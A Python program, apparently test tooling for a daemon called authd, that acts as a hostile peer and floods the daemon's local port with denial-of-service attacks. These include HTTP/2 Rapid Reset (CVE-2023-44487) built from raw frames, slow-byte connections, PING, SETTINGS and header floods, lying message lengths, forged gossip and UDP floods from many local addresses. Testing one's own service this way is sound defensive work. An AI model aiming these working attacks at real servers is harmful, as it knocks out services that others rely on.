"""A hostile node as a program: one attack after another on the peer port of a daemon.

It reads lines of JSON: first whom to attack and as whom, then ``{"attack": name, "seconds": s}``,
and answers each with what it has done. A process of its own, so that it takes no time from whoever
measures.
"""

import asyncio
import contextlib
import itertools
import json
import logging
import os
import random
import socket
import sys
from collections.abc import Awaitable, Callable, Iterable
from typing import Any, Final

import grpc
import grpc.aio

from authd.clock import SystemClock, SystemEntropy
from authd.core.claims import Kind
from authd.core.grants import KeySubject, sign_grant
from authd.core.identity import PublicKey, SigningKey, StatementId
from authd.core.records import RecordKind, encode_record, make_record, record_salt
from authd.core.topics import Action, make_scope
from authd.dht.messages import (
    Find,
    Found,
    Ping,
    Pong,
    Request,
    Retry,
    Store,
    node_id,
    seal_datagram,
    verify_datagram,
)
from authd.errors import AuthdError
from authd.gossip._generated import gossip_pb2, gossip_pb2_grpc
from authd.gossip.handshake import Introducer
from authd.gossip.messages import (
    MAX_SAMPLES,
    MAX_WANTED,
    Hello,
    Peers,
    Push,
    Range,
    Reconcile,
    Want,
    sign_have,
    sign_sample,
)
from authd.gossip.transport import GrpcTransport, Link
from authd.gossip.wire import encode_frame
from authd.service.ports import Item

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS: Final = b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
_EXCHANGE: Final = b"/authd.v1.Gossip/Exchange"
_HINT: Final = b"/authd.v1.Gossip/Hint"
_BIG: Final = (("grpc.max_send_message_length", -1), ("grpc.use_local_subchannel_pool", 1))


class Anybody:
    """Lets everybody in, and shows what it was given."""

    def __init__(self, grants: Iterable[bytes] = ()) -> None:
        self._grants = list(grants)

    def admits(self, node: PublicKey) -> bool:
        return True

    def is_own(self, node: PublicKey) -> bool:
        return True

    def admission_grants(self) -> list[bytes]:
        return self._grants

    def learn_grants(self, grants: Iterable[bytes]) -> None:
        return None


class Hostile:
    """The attacks, by name."""

    def __init__(self, told: dict[str, Any]) -> None:
        self.port = int(told["port"])
        self.address = f"127.0.0.1:{self.port}"
        self.key = SigningKey.from_seed(bytes.fromhex(told["seed"]))
        self.grants = [bytes.fromhex(one) for one in told["grants"]]
        self.victim = PublicKey(bytes.fromhex(told["victim"]))
        self.rng = random.Random(1)
        self.clock, self.entropy = SystemClock(), SystemEntropy()
        self.done = 0

    def source(self) -> str:
        """Return one of many addresses of this host."""
        return f"127.0.{self.rng.randrange(1, 9)}.{self.rng.randrange(1, 250)}"

    async def run(self, name: str, seconds: float) -> int:
        """Attack for a while; return how often something was done."""
        attack: Callable[[], Awaitable[None]] = getattr(self, name)
        self.done = 0
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(seconds):
                await attack()
        return self.done

    async def _many(self, count: int, one: Callable[[], Awaitable[None]]) -> None:
        async def for_ever() -> None:
            while True:
                with contextlib.suppress(AuthdError, OSError, grpc.RpcError, EOFError):
                    await one()
                await asyncio.sleep(0)

        async with asyncio.TaskGroup() as group:
            for _ in range(count):
                group.create_task(for_ever())

    async def _connect(self, *, many_hosts: bool = False) -> asyncio.StreamWriter:
        local = (self.source(), 0) if many_hosts else None
        _, writer = await asyncio.open_connection("127.0.0.1", self.port, local_addr=local)
        self.done += 1
        return writer

    # --- below gossip ---------------------------------------------------------------------

    async def connections_without_a_word(self) -> None:
        """Connect, and connect, and say nothing."""
        held: list[asyncio.StreamWriter] = []
        try:
            while len(held) < 1_500:
                with contextlib.suppress(OSError):
                    held.append(await self._connect(many_hosts=True))
            await asyncio.sleep(60)
        finally:
            for writer in held:
                writer.close()

    async def a_byte_a_second(self) -> None:
        """Begin HTTP/2 very slowly, and hints that never end."""

        async def slowly() -> None:
            writer = await self._connect()
            try:
                for byte in PREFACE + SETTINGS:
                    writer.write(bytes([byte]))
                    await asyncio.sleep(1)
            finally:
                writer.close()

        async with asyncio.TaskGroup() as group:
            group.create_task(self._many(100, slowly))
            group.create_task(self._many(100, self._endless))

    async def _endless(self) -> None:
        async with grpc.aio.insecure_channel(self.address, options=_BIG) as channel:
            call: Any = channel.stream_stream(_HINT.decode())()
            self.done += 1
            await call.wait_for_connection()
            await asyncio.sleep(60)

    async def rapid_resets(self) -> None:
        """Open streams and reset them at once (CVE-2023-44487), as bare HTTP/2 frames."""

        async def burst() -> None:
            writer = await self._connect()
            try:
                writer.write(PREFACE + SETTINGS)
                for stream in range(1, 20_001, 2):
                    writer.write(headers(stream, _EXCHANGE) + frame(3, 0, stream, b"\0\0\0\x08"))
                    self.done += 1
                    if stream % 200 == 1:
                        await writer.drain()
            finally:
                writer.close()

        await self._many(4, burst)

    async def http2_floods(self) -> None:
        """PING, SETTINGS and header floods, and headers that do not end."""

        async def burst() -> None:
            writer = await self._connect()
            try:
                writer.write(PREFACE + SETTINGS)
                for number in range(5_000):
                    writer.write(frame(6, 0, 0, bytes(8)) + SETTINGS)
                    self.done += 2
                    if number % 100 == 0:
                        await writer.drain()
                writer.write(frame(1, 0, 1, bytes(16_000)))
                for _ in range(1_000):
                    writer.write(frame(9, 0, 1, bytes(16_000)))
                    self.done += 1
                    await writer.drain()
            finally:
                writer.close()

        await self._many(4, burst)

    async def oversize(self) -> None:
        """Messages that are far too long, and lengths that lie."""

        async def send() -> None:
            async with grpc.aio.insecure_channel(self.address, options=_BIG) as channel:
                call = gossip_pb2_grpc.GossipStub(channel).Exchange()
                self.done += 1
                await call.write(gossip_pb2.Frame(body=bytes(4_000_000)))
                await call.read()

        async def lie() -> None:
            writer = await self._connect()
            try:
                writer.write(PREFACE + SETTINGS + headers(1, _EXCHANGE))
                writer.write(frame(0, 0, 1, b"\x00\xff\xff\xff\xff" + bytes(8_000)))
                await writer.drain()
                await asyncio.sleep(0.2)
            finally:
                writer.close()

        async with asyncio.TaskGroup() as group:
            group.create_task(self._many(4, send))
            group.create_task(self._many(8, lie))

    # --- gossip, not admitted ---------------------------------------------------------------

    async def malformed_frames(self) -> None:
        """Frames that are none, and good ones in the wrong place."""
        hello = encode_frame(Hello(key=self.key.public, nonce=bytes(32), run=bytes(16)))
        junk = [
            b"",
            b"\xff" * 60_000,
            b"\x9f" * 100,
            hello[:-1],
            b"\x81\x08",
            encode_frame(Want(())),
        ]

        async def send() -> None:
            async with GrpcTransport().dialled(self.address) as link:
                for data in (hello, self.rng.choice(junk)):
                    await link.write(data)
                self.done += 1
                await read_to_end(link)

        await self._many(16, send)

    async def streams_without_end(self) -> None:
        """Many connections with many streams each, none of which introduces itself."""

        async def hold() -> None:
            async with (
                grpc.aio.insecure_channel(self.address, options=_BIG) as channel,
                asyncio.TaskGroup() as group,
            ):
                for _ in range(20):
                    group.create_task(self._hold(channel))

        await self._many(30, hold)

    async def _hold(self, channel: grpc.aio.Channel) -> None:
        call = gossip_pb2_grpc.GossipStub(channel).Exchange()
        self.done += 1
        with contextlib.suppress(grpc.RpcError):
            while await call.read() is not grpc.aio.EOF:
                pass

    async def strangers(self) -> None:
        """Introductions in due form, by keys that nobody admitted, with grants that they made."""

        async def introduce() -> None:
            key = SigningKey.from_seed(self.rng.randbytes(32))
            issuer = SigningKey.from_seed(self.rng.randbytes(32))
            shown = [self._grant(issuer, key).encoded for _ in range(4)]
            introducer = Introducer(
                key=key, run=bytes(16), entropy=self.entropy, admission=Anybody(shown)
            )
            async with GrpcTransport().dialled(self.address) as link:
                await introducer.introduce(link, we_dialled=True)
                self.done += 1
                await read_to_end(link)

        await self._many(16, introduce)

    async def hints(self) -> None:
        """Announcements by strangers, and deliveries that nobody asked for."""
        ids = [StatementId(self.rng.randbytes(16)) for _ in range(64)]

        async def tell() -> None:
            key = SigningKey.from_seed(self.rng.randbytes(32))
            async with GrpcTransport().hinting(self.address) as ask:
                while True:
                    self.done += 1
                    await ask(encode_frame(sign_have(key, ids, issued_at=self.clock.now())))

        await self._many(16, tell)

    # --- gossip, admitted -------------------------------------------------------------------

    def _grant(self, issuer: SigningKey, subject: SigningKey) -> Any:
        now = self.clock.now()
        return sign_grant(
            issuer,
            subject=KeySubject(subject.public),
            scope=make_scope({f"x/{self.rng.random()}": Action.PUB}),
            issued_at=now,
            expires_at=now + 60,
        )

    async def _admitted(self, talk: Callable[[Link], Awaitable[None]], *, many: int = 1) -> None:
        async def once() -> None:
            introducer = Introducer(
                key=self.key,
                run=self.rng.randbytes(16),
                entropy=self.entropy,
                admission=Anybody(self.grants),
            )
            async with GrpcTransport().dialled(self.address) as link:
                await introducer.introduce(link, we_dialled=True)
                await talk(link)

        await self._many(many, once)

    async def admitted_bad_signatures(self) -> None:
        """Statements without end whose signatures are wrong."""
        other = SigningKey.from_seed(self.rng.randbytes(32))
        grants = [self._grant(self.key, other).encoded for _ in range(32)]
        bad = tuple(Item(Kind.GRANT, one[:-1] + bytes([one[-1] ^ 1])) for one in grants)

        async def talk(link: Link) -> None:
            async with asyncio.TaskGroup() as group:
                group.create_task(read_to_end(link))
                while True:
                    await link.write(encode_frame(Push(bad)))
                    self.done += len(bad)

        await self._admitted(talk)

    async def admitted_malformed(self) -> None:
        """Get in, send junk, come again."""

        async def talk(link: Link) -> None:
            await link.write(self.rng.randbytes(200))
            self.done += 1
            await read_to_end(link)

        await self._admitted(talk, many=4)

    async def admitted_never_reads(self) -> None:
        """Ask for everything, again and again, and read nothing of it."""
        ids = tuple(sorted(StatementId(self.rng.randbytes(16)) for _ in range(MAX_WANTED)))
        whole = Range(low=b"", high=b"", count=1, fingerprint=bytes(16))

        async def talk(link: Link) -> None:
            while True:
                await link.write(encode_frame(Want(ids)))
                await link.write(encode_frame(Reconcile((whole,))))
                self.done += 2

        await self._admitted(talk)

    async def admitted_made_up_nodes(self) -> None:
        """Samples of nodes that do not exist, all at addresses of others."""

        async def talk(link: Link) -> None:
            async with asyncio.TaskGroup() as group:
                group.create_task(read_to_end(link))
                while True:
                    samples = []
                    for _ in range(MAX_SAMPLES):
                        key = SigningKey.from_seed(self.rng.randbytes(32))
                        at = f"{self.source()}:{self.rng.randrange(1, 65_536)}"
                        samples.append(sign_sample(key, address=at, issued_at=self.clock.now()))
                    await link.write(encode_frame(Peers(tuple(samples))))
                    self.done += len(samples)
                    await asyncio.sleep(0)

        await self._admitted(talk)

    # --- datagrams ------------------------------------------------------------------------

    async def udp_junk(self) -> None:
        """Datagrams that are none, from hundreds of addresses."""
        sizes = (0, 1, 50, 500, 1_200, 1_201, 9_000)
        await self._datagrams(lambda: self.rng.randbytes(self.rng.choice(sizes)))

    async def udp_strangers(self) -> None:
        """Greetings in due form by keys that nobody admitted, from hundreds of addresses."""
        made = []
        for _ in range(300):
            key = SigningKey.from_seed(self.rng.randbytes(32))
            shown = (self._grant(self.key, key).encoded,)
            made.append(self._seal(Ping(cookie=bytes(8), grants=shown), key))
        await self._datagrams(lambda: self.rng.choice(made))

    def _seal(self, message: Request, key: SigningKey) -> bytes:
        return seal_datagram(
            message, nonce=self.rng.randbytes(8), receiver=node_id(self.victim), key=key
        )

    async def _datagrams(self, make: Callable[[], bytes]) -> None:
        senders = []
        for _ in range(200):
            sender = socket.socket(type=socket.SOCK_DGRAM)
            sender.bind((self.source(), 0))
            sender.setblocking(False)  # noqa: FBT003 - the library's own signature
            senders.append(sender)
        try:
            for sender in itertools.cycle(senders):
                with contextlib.suppress(BlockingIOError, OSError):
                    sender.sendto(make(), ("127.0.0.1", self.port))
                self.done += 1
                if self.done % 50 == 0:
                    # Some 20 000 a second: what this process can make and no more.
                    await asyncio.sleep(0.002)
        finally:
            for sender in senders:
                sender.close()

    async def admitted_stores(self) -> None:
        """Records of made-up publishers, as fast as an admitted node may store them."""
        loop = asyncio.get_running_loop()

        async def from_one_port() -> None:
            with socket.socket(type=socket.SOCK_DGRAM) as link:
                link.bind((self.source(), 0))
                link.setblocking(False)  # noqa: FBT003 - the library's own signature
                cookie = await self._greet(loop, link)
                while True:
                    await self._store(loop, link, cookie)

        await self._many(8, from_one_port)

    async def _greet(self, loop: asyncio.AbstractEventLoop, link: socket.socket) -> bytes:
        cookie = b""
        for _ in range(2):
            grants = tuple(self.grants) if cookie else ()
            answer = await self._ask(
                loop, link, Ping(cookie=cookie, reachable=False, grants=grants)
            )
            if isinstance(answer, Retry | Pong):
                cookie = answer.cookie
        return cookie

    async def _store(
        self, loop: asyncio.AbstractEventLoop, link: socket.socket, cookie: bytes
    ) -> None:
        key = SigningKey.from_seed(self.rng.randbytes(32))
        record = make_record(
            key,
            salt=record_salt(RecordKind.GRANTS, key.public, b"x"),
            seq=self.clock.now_us(),
            content=self.rng.randbytes(850),
            expires_at=self.clock.now() + 3_600,
        )
        found = await self._ask(loop, link, Find(cookie=cookie, target=record.target))
        if isinstance(found, Found):
            await self._ask(loop, link, Store(token=found.token, record=encode_record(record)))
            self.done += 1

    async def _ask(
        self, loop: asyncio.AbstractEventLoop, link: socket.socket, request: Request
    ) -> object:
        await loop.sock_sendto(link, self._seal(request, self.key), ("127.0.0.1", self.port))
        try:
            async with asyncio.timeout(0.2):
                return verify_datagram(await loop.sock_recv(link, 2_048)).message
        except (TimeoutError, AuthdError):
            return None


def frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
    """Write an HTTP/2 frame (RFC 9113 section 4.1)."""
    return len(body).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + body


def headers(stream: int, path: bytes) -> bytes:
    """Write the HEADERS of a call: HPACK literals without indexing (RFC 7541 section 6.2.2)."""

    def literal(name: bytes, value: bytes) -> bytes:
        return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value

    block = b"\x83\x86" + literal(b":path", path) + literal(b":authority", b"x")
    block += literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers")
    return frame(1, 4, stream, block)


async def read_to_end(link: Link) -> None:
    """Take what comes until nothing does."""
    while True:
        await link.read()


def main() -> None:
    """Run as a program."""
    os.environ.setdefault("GRPC_VERBOSITY", "NONE")
    logging.disable()  # the library complains of every connection that is closed to it
    hostile = Hostile(json.loads(sys.stdin.readline()))
    with asyncio.Runner() as runner:
        runner.get_loop().set_exception_handler(lambda _loop, _context: None)
        for line in sys.stdin:
            order = json.loads(line)
            done = runner.run(hostile.run(order["attack"], order["seconds"]))
            sys.stdout.write(json.dumps({"attack": order["attack"], "done": done}) + "\n")
            sys.stdout.flush()


if __name__ == "__main__":
    main()
